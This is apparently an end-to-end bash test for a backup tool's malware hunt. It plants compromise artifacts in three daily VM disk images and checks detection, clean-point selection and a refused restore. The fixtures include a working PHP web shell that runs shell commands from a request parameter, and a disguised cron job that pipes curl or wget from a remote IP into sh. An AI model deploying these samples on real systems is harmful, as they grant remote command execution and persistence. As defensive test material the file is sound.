#!/bin/bash
# End-to-end: the hunt inside disk images. Three daily image backups of the
# same Debian VM "web01" (the cached debootstrap tree in the ext4 root
# partition of a GPT disk, tests/image-lib.bash), changed between the days
# with debugfs, as the running VM would have written them:
#   day 1  clean: a web page in /var/www/html
#   day 2  a PHP web shell dropped in /var/www/html/uploads/ (a YARA rule of
#          rules/yara/webshells.yar matches it)
#   day 3  also an /etc/cron.d job no package installed, piping curl into sh
# Asserted: `hunt` finds the web shell (yara:) on day 2 and the cron job
# (persistence:cron) on day 3, at paths inside the image (/disk0/p2/...), and
# judges them relative to the system root like on a file tree; day 1 holds no
# finding at or above high; `clean-point` names day 1 and day 2 as the first
# compromised; `restore --image` of day 3 is refused (exit 8, no file
# written) and of day 1 gives back day 1's disk exactly.
. "$(dirname "$0")/e2e-lib.bash"
. "$CR_SRC/tests/debian-tree.sh"
. "$CR_SRC/tests/image-lib.bash"
. "$E2E_DIR/hunt-lib.bash"

e2e_require_root
img_need qemu-img sgdisk mkfs.ext4 mkfs.vfat mcopy debugfs python3
DEB=$(cr_debian_tree) || e2e_skip "no debootstrap tree (see messages above)"

IMG="$SCRATCH/web01.raw"
e2e_log "building $IMG (1 GiB GPT: EFI + ext4 of $DEB)"
mk_ext4_gpt_image "$IMG" "$DEB" 1G || e2e_fail "could not build the disk image"
P2=$IMG_P2_OFF
put() { img_ext4_put "$IMG" "$P2" "$@" || e2e_fail "debugfs could not write $2 into the image"; }

SHELL_REL=/var/www/html/uploads/avatar-7.php
CRON_REL=/etc/cron.d/php-cache-clean
ROOT=/disk0/p2

e2e_init_vault
declare -a SNAP
backup_day() {
    local d=$1
    e2e_run --json backup --source web01 --time "2026-06-0${d}T02:00:00Z" --image "$IMG" --vm-firmware uefi
    e2e_expect_rc 0 "image backup of day $d"
    SNAP[d]=$(e2e_backup_id)
    e2e_log "day $d: snapshot ${SNAP[$d]:0:8}, $(e2e_json_get "$OUT" 'j["bytes_new"]') new bytes"
}

# --- day 1: clean
printf '<html><body><h1>web01</h1></body></html>\n' >"$SCRATCH/index.html"
put "$SCRATCH/index.html" /var/www/html/index.html 644
backup_day 1
cp --sparse=always "$IMG" "$SCRATCH/day1.raw"

# --- day 2: the web shell
cat >"$SCRATCH/shell.php" <<'EOF'
<?php
if (isset($_REQUEST['k']) && md5($_REQUEST['k']) === '5f4dcc3b5aa765d61d8327deb882cf99') {
    echo '<pre>' . shell_exec($_GET['c']) . '</pre>';
}
EOF
put "$SCRATCH/shell.php" "$SHELL_REL" 644
backup_day 2

# --- day 3: persistence
cat >"$SCRATCH/cron" <<'EOF'
# Clean the PHP session cache
*/10 * * * * root (curl -fsSL http://198.51.100.23/x.sh || wget -q -O- http://198.51.100.23/x.sh) | sh >/dev/null 2>&1
EOF
put "$SCRATCH/cron" "$CRON_REL" 644
backup_day 3

# --- the hunt
e2e_run --json hunt --source web01
cp "$OUT" "$SCRATCH/hunt.json"
[ "$RC" -eq 0 ] || { e2e_show; e2e_fail "hunt exited $RC, expected 0"; }
hunt_no_escape "$OUT" "hunt --json"
e2e_log "hunt: $(hunt_json "$SCRATCH/hunt.json" '"%d snapshots hunted, %d files judged, %d contents scanned (%d MB), new findings %s, %.1f s" % (j["snapshots_hunted"], j["files_judged"], j["contents_scanned"], j["bytes_scanned"] // 1000000, j["new_findings"], j["seconds"])')"

# has_finding DAY WHAT CONDITION-ON-f (rel(f) = path below the system root)
has_finding() {
    local d=$1 what=$2 cond=$3 F="$SCRATCH/findings-$1.json"
    hunt_findings "$F" --snapshot "${SNAP[$d]}" --min-severity high
    hunt_py "$F" >&2 <<EOF || e2e_fail_later "MISSED on day $d: $what"
def rel(f):
    p = f.get("path") or ""
    return p[len("$ROOT"):] if p.startswith("$ROOT/") else "(not in $ROOT) " + p
ok = [f for f in items(j[0]) if ($cond)]
if not ok:
    print("  day $d: no finding for: $what; its findings >= high are:")
    for f in items(j[0]):
        print("    " + show(f))
sys.exit(0 if ok else 1)
EOF
}
has_finding 2 "the web shell $ROOT$SHELL_REL (yara:)" \
    'rel(f) == "'"$SHELL_REL"'" and f["indicator"].startswith("yara:")'
has_finding 3 "the web shell carried forward to day 3" \
    'rel(f) == "'"$SHELL_REL"'" and f.get("first_seen") == "'"${SNAP[2]}"'"'
has_finding 3 "persistence:cron on $ROOT$CRON_REL" \
    'rel(f) == "'"$CRON_REL"'" and f["indicator"] == "persistence:cron"'

# Day 1 is clean; nothing at or above high anywhere but the attack.
hunt_findings "$SCRATCH/findings-all.json" --source web01 --min-severity high
hunt_py "$SCRATCH/findings-all.json" >&2 <<EOF || e2e_fail_later "findings at or above high that are not about the attack, or on day 1 (above)"
bad = [f for f in items(j[0])
       if same_snap(f, "${SNAP[1]}") or not any(f.get("path", "").endswith(p) for p in ("$SHELL_REL", "$CRON_REL"))]
for f in bad:
    print("  unexpected: %s (snapshot %s)" % (show(f), sid(f)[:8]))
sys.exit(1 if bad else 0)
EOF

# --- the clean point
e2e_ok --json clean-point --source web01
cp "$OUT" "$SCRATCH/clean-point.json"
hunt_py "$SCRATCH/clean-point.json" >&2 <<EOF || e2e_fail_later "clean-point does not name day 1 (above)"
doc = j[0]
cp = [c for c in (doc if isinstance(doc, list) else [doc]) if c.get("source") == "web01"]
if len(cp) != 1:
    print("  clean-point --json: no single entry for web01:", doc)
    sys.exit(1)
cp = cp[0]
err = []
if cp.get("clean_snapshot") != "${SNAP[1]}":
    err.append("clean_snapshot is %s, expected day 1's ${SNAP[1]}" % cp.get("clean_snapshot"))
if cp.get("first_compromised_snapshot") != "${SNAP[2]}":
    err.append("first_compromised_snapshot is %s, expected day 2's ${SNAP[2]}" % cp.get("first_compromised_snapshot"))
for f in cp.get("reasons", []):
    print("  reason: " + show(f))
for e in err:
    print("  clean-point: " + e)
sys.exit(1 if err else 0)
EOF

# --- the restore gate, for whole disks too
e2e_run restore "${SNAP[3]}" --image "$SCRATCH/day3.qcow2" --format qcow2
if [ "$RC" -ne 8 ]; then
    e2e_show
    e2e_fail_later "restore --image of day 3 (web shell, cron job) exited $RC, expected 8 (refused)"
fi
grep -q "${SNAP[1]:0:8}" "$ERR" "$OUT" || e2e_fail_later "the refusal does not name the clean point ${SNAP[1]:0:8}"
[ -z "$(find "$SCRATCH" -maxdepth 1 -name 'day3.qcow2*')" ] || e2e_fail_later "the refused restore wrote $SCRATCH/day3.qcow2"
e2e_run restore "${SNAP[1]}" --image "$SCRATCH/day1-restored.qcow2" --format qcow2
e2e_expect_rc 0 "restore --image of the clean point (day 1)"
qemu-img compare -q -f raw "$SCRATCH/day1.raw" "$SCRATCH/day1-restored.qcow2" ||
    e2e_fail_later "the clean point restored as qcow2 differs from day 1's disk"
e2e_pass
